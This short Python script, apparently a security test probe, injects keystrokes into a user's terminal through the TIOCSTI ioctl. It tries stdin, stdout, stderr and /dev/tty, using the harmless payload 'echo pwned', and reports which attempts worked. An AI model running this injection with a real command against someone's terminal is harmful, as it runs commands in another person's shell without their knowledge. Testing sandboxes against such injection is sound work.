"""Attack: type a command into the user's terminal with TIOCSTI.

Tries the ioctl on stdin/stdout/stderr and on /dev/tty. Prints what worked.
"""

import fcntl
import json
import os
import termios

result = {}
payload = b"echo pwned\n"


def inject(name, fd):
    try:
        for byte in payload:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        result[name] = "injected"
    except OSError as exc:
        result[name] = f"error: {exc.strerror}"


for fd in (0, 1, 2):
    inject(f"fd {fd}", fd)
try:
    tty = os.open("/dev/tty", os.O_RDWR)
    inject("/dev/tty", tty)
except OSError as exc:
    result["/dev/tty"] = f"error: {exc.strerror}"
print(json.dumps(result))
